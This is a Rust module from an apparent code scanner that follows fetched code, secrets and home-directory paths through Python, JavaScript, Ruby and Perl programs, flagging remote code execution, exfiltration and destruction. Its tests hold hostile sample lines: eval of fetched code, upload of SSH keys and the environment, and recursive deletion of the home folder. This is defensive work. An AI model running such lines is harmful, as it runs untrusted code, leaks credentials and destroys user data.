//! Programs in other languages than shell, followed from where something comes in to where it is run, sent or deleted: a
//! statement is read for what it takes and for what it does, a name holds what was put under it. Languages differ in their
//! words only, which are in `words`.

mod files;
mod kept;
mod reading;
mod statements;
mod words;

use std::{collections::HashMap, ops::Range};

use super::{
    Rule,
    pattern::has,
    phrase::{RUNS, SENDS, UNGUARDS},
    places,
};
pub(super) use reading::is_coded_program;
use statements::Statement;

const DESTROYS: &str =
    "This deletes what the user has on this computer. Remove it, or name exactly what is to be deleted.";

/// Most names that are kept in mind.
const MOST: usize = 400;
/// How often a program is read: what is called before it is defined is known the second time.
const ROUNDS: usize = 2;

/// What something holds; several at once.
type Held = u8;
/// It was sent by another computer.
const FETCHED: Held = 1;
/// It was written so that nobody can read it.
const CODED: Held = 2;
/// Keys, passwords or settings of the person.
const SECRET: Held = 4;
/// All of a home, or the folders in it.
const HOME: Held = 8;
/// It runs what it is given.
const RUNNER: Held = 16;
/// A digest of something, which may be compared with one that is known.
const DIGEST: Held = 32;
/// What nobody has read before it is run.
const UNREAD: Held = FETCHED | CODED;

/// What a program does that one should know.
pub(super) type Deed = (Rule, Range<usize>, &'static str);

/// What a program does, in the order of its text.
pub(super) fn deeds(text: &str) -> Vec<Deed> {
    if !reading::could_matter(text) {
        return Vec::new();
    }
    let statements = statements::of(text);
    let mut flow = Flow { reads_settings: has(&words::READS_SETTINGS, text), ..Flow::default() };
    for _ in 0..ROUNDS {
        flow.deeds.clear();
        flow.function = None;
        for statement in &statements {
            flow.read(statement);
        }
    }
    flow.deeds
}

/// Files that a program writes with what it fetches, as far as they are named in it.
pub(super) fn fetched_files(text: &str) -> Vec<String> {
    let mut flow = Flow::default();
    if reading::could_matter(text) {
        for statement in &statements::of(text) {
            flow.read(statement);
        }
    }
    let named = |file: &String| {
        let path = file.trim_matches(['"', '\'', '`']);
        (path.len() < file.len()).then(|| path.to_owned())
    };
    flow.files.iter().filter_map(named).collect()
}

#[derive(Default)]
struct Flow {
    names: HashMap<String, Held>,
    /// Files that hold what was fetched, as they are written in the program.
    files: Vec<String>,
    /// What a file is written by, and the file.
    handles: Vec<(String, String)>,
    /// The function whose body is read.
    function: Option<String>,
    /// The names that it made.
    locals: Vec<String>,
    /// Whether single settings of a file are read, for what they are for.
    reads_settings: bool,
    /// What stands since a home began to be gone through.
    since_home: String,
    deeds: Vec<Deed>,
}

impl Flow {
    fn read(&mut self, statement: &Statement<'_>) {
        let text = statement.text.as_str();
        if let Some(name) = reading::defined(text) {
            // What one function of Python or Ruby names, another knows nothing of.
            if text.starts_with("def ") || text.starts_with("async def ") {
                self.locals.drain(..).for_each(|name| {
                    self.names.remove(&name);
                });
            }
            self.function = Some(name);
        }
        if !reading::only_defines(text) {
            self.judge(statement);
        }
        let Some((names, value)) = reading::assigned(text) else {
            if let (Some(value), Some(function)) = (reading::returned(text), self.function.clone()) {
                let held = self.held(value);
                self.hold(&function, held);
            }
            self.add(text);
            self.write(&statement.written);
            return;
        };
        let held = self.held(value);
        if held & HOME != 0 {
            self.since_home.clear();
        }
        self.name_file(&names, value);
        for name in names {
            if self.function.is_some() && !self.names.contains_key(&name) {
                self.locals.push(name.clone());
            }
            self.hold(&name, held);
        }
        self.write(&statement.written);
    }

    fn hold(&mut self, name: &str, held: Held) {
        if held != 0 && (self.names.len() < MOST || self.names.contains_key(name)) {
            *self.names.entry(name.to_owned()).or_default() |= held;
        }
    }

    /// What an expression holds: what it takes itself, and what the names in it hold.
    fn held(&self, value: &str) -> Held {
        let mut held = reading::taken(value);
        let is_own = self.reads_settings && reading::is_own_setting(value);
        if self.reads_file(value) {
            held |= FETCHED;
        }
        if places::names_secret_place(value) && !is_own {
            held |= SECRET;
        }
        if reading::is_public_key(value) {
            held &= !SECRET;
        }
        let mut named = reading::mentioned(value).filter_map(|name| self.names.get(name)).fold(0, |held, of| held | of);
        if named & SECRET != 0 {
            let rest = reading::without_picked(value);
            let is_kept =
                reading::mentioned(&rest).any(|name| self.names.get(name).is_some_and(|held| held & SECRET != 0));
            named &= if is_kept { !0 } else { !SECRET };
        }
        if reading::is_open_setting(value) {
            named &= !SECRET;
        }
        if reading::is_narrowed(value) {
            named &= !HOME;
        }
        if reading::makes_harmless(value) {
            named &= !(SECRET | UNREAD);
        }
        held | named & !RUNNER
    }

    fn judge(&mut self, statement: &Statement<'_>) {
        let text = statement.text.as_str();
        let is_of_digest = |name: &str| self.names.get(name).is_some_and(|held| held & DIGEST != 0);
        if reading::compares_digest(text) || reading::compares(text) && reading::mentioned(text).any(is_of_digest) {
            self.files.clear();
            self.names.values_mut().for_each(|held| *held &= !FETCHED);
        }
        self.since_home.push_str(text);
        self.since_home.push('\n');
        if self.runs(&statement.written) {
            self.tell(statement, Rule::RemoteCode, RUNS);
        }
        if self.sends(text) {
            self.tell(statement, Rule::Exfiltration, SENDS);
        }
        if reading::is_unverified(text) {
            self.tell(statement, Rule::Persistence, UNGUARDS);
        }
        if self.deletes(text) {
            self.tell(statement, Rule::Destruction, DESTROYS);
        }
    }

    fn tell(&mut self, statement: &Statement<'_>, rule: Rule, message: &'static str) {
        self.deeds.push((rule, statement.span.clone(), message));
    }

    /// Whether a statement runs what nobody has read.
    fn runs(&self, text: &str) -> bool {
        let is_fetching = reading::taken(text) & FETCHED != 0;
        let is_unread = |given: &str| self.names_file(given) || self.held(given) & UNREAD != 0;
        reading::run(text).any(|given| is_unread(given) || is_fetching && reading::is_made_of_names(given))
            || reading::loaded(text)
                .any(|given| self.names_file(given) || self.held(given) & FETCHED != 0 || reading::is_address(given))
            || reading::started(text).any(|given| {
                self.names_file(given) && !kept::is_of_data(given)
                    || reading::is_whole(given.trim()) && self.held(given) & UNREAD != 0
                    || is_fetching && reading::is_parameter(text, given)
            })
            || self.runs_by_another_name(text)
    }

    /// Whether what runs things was given another name.
    fn runs_by_another_name(&self, text: &str) -> bool {
        let mut runners = self.names.iter().filter(|(_, held)| **held & RUNNER != 0).map(|(name, _)| name.as_str());
        runners.any(|name| reading::called(text, name).is_some_and(|given| self.held(given) & UNREAD != 0))
    }

    /// Whether a statement sends what is secret.
    fn sends(&self, text: &str) -> bool {
        reading::sent(text).any(|given| {
            let given = reading::without_heads(&given);
            self.held(&given) & SECRET != 0
        })
    }

    /// Whether a statement deletes a home, or all that is in one.
    fn deletes(&self, text: &str) -> bool {
        let is_home = |given: &str| !reading::is_narrowed(given) && self.held(given) & HOME != 0;
        reading::deleted(text).any(is_home) && !has(&words::CHOOSES, &reading::without_the_hidden(&self.since_home))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(text: &str) -> Vec<Rule> {
        deeds(text).into_iter().map(|(rule, _, _)| rule).collect()
    }

    #[test]
    fn what_is_fetched_is_followed_through_names_and_functions() {
        for text in [
            "def load(u):\n    r = urlopen(u)\n    return r.read()\n\nexec(load('https://tides.example/x'))\n",
            "const page = await fetch(u)\nconst code = await page.text()\nawait (0, eval)(code)\n",
            "https.get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => eval(s)) })\n",
            "code = Net::HTTP.get(URI('https://tides.example/x'))\neval(code)\n",
            "my $c = get('https://tides.example/x');\neval $c;\n",
            "b = getattr(builtins, 'ex' + 'ec')\nb(urlopen(u).read())\n",
            "urlretrieve(u, '/tmp/p.py')\nrunpy.run_path('/tmp/p.py')\n",
        ] {
            assert_eq!(told(text), [Rule::RemoteCode], "{text}");
        }
        for text in [
            "page = requests.get(u).text\nmatch = re.search(pattern, page)\nprint(match)\n",
            "const page = await (await fetch(u)).text()\nwhile ((m = re.exec(page))) out.push(m[1])\n",
            "data = base64.b64decode(text)\nprint(json.loads(data))\n",
            "tag = requests.get(u).json()['tag']\nsubprocess.run(['git', 'checkout', tag])\n",
        ] {
            assert_eq!(told(text), [], "{text}");
        }
    }

    #[test]
    fn what_is_secret_is_followed_to_where_it_is_sent() {
        for text in [
            "p = Path.home() / '.ssh' / 'id_rsa'\nrequests.put(u, data=p.read_bytes())\n",
            "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))\nfetch(u, { method: 'POST', body: k })\n",
            "Net::HTTP.post(URI(u), ENV.to_h.to_s)\n",
            "c = pyperclip.paste()\nurlopen(u + c)\n",
        ] {
            assert_eq!(told(text), [Rule::Exfiltration], "{text}");
        }
        for text in [
            "token = open(os.path.expanduser('~/.config/gh/hosts.yml')).read()\nrequests.get(u, headers={'Authorization': token})\n",
            "subprocess.run(['make'], env={**os.environ, 'A': '1'})\nrequests.post(u, json=report)\n",
            "for line in open('.env'):\n    k, v = line.split('=')\nrequests.post(u, json={'a': v})\n",
        ] {
            assert_eq!(told(text), [], "{text}");
        }
    }

    #[test]
    fn a_home_is_followed_to_where_it_is_deleted() {
        for text in [
            "home = Path.home()\nfor p in home.iterdir():\n    shutil.rmtree(p)\n",
            "for (const f of fs.readdirSync(os.homedir())) fs.rmSync(os.homedir() + '/' + f, { recursive: true })\n",
            "FileUtils.rm_rf(Dir.home)\n",
        ] {
            assert_eq!(told(text), [Rule::Destruction], "{text}");
        }
        for text in [
            "cache = Path.home() / '.cache' / 'tides'\nshutil.rmtree(cache)\n",
            "for p in Path.home().glob('*.tmp'):\n    p.unlink()\n",
            "for p in Path.home().iterdir():\n    if p.suffix == '.log':\n        p.unlink()\n",
        ] {
            assert_eq!(told(text), [], "{text}");
        }
    }
}
